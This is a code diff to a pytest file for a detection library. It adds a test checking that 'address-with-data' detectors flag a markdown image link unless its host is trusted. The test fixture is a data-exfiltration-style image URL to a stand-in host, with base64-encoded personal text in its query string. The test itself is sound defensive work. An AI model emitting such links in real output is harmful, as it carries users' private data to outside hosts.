@@ -7,7 +7,7 @@ import json
 import pytest
 from tests.inspection.reference import CANARY, CATALOGUES, DETECTORS, POLICY
 
-from wardstead.inspection.catalogue import Detector, canary, catalogue_schema, load_catalogues
+from wardstead.inspection.catalogue import Detector, canary, catalogue_schema, digest, load_catalogues, trusting
 from wardstead.inspection.folding import View
 from wardstead.inspection.inspector import PolicyInspector
 from wardstead.inspection.matching import Matcher
@@ -192,3 +192,13 @@ def test_the_schemas_beside_the_catalogues_are_those_of_the_code() -> None:
     assert json.loads((CATALOGUES / "detectors/detectors.schema.json").read_text()) == json.loads(json.dumps(catalogue_schema()))
     written = json.loads((CATALOGUES / "classification/classification.schema.json").read_text())
     assert written == json.loads(json.dumps(policy_schema()))
+
+
+def test_an_address_on_a_trusted_host_carries_nothing_away() -> None:
+    addresses = tuple(one for one in DETECTORS if one.type == "address-with-data")
+    text = b"![x](https://img.ex.example/p?d=VGhlIHVzZXIncyBuYW1lIGlzIEFubg)"
+    for hosts, found in ((), True), (("img.ex.example",), False), ((".ex.example",), False), (("ex.example",), True):
+        chosen = trusting(addresses, frozenset(hosts))
+        matcher = Matcher(chosen, scan=False)
+        assert any(matcher.matches(number, text, 0, len(text)).matches for number in range(len(chosen))) is found
+    assert digest(trusting(addresses, frozenset({"a.example"}))) != digest(addresses)
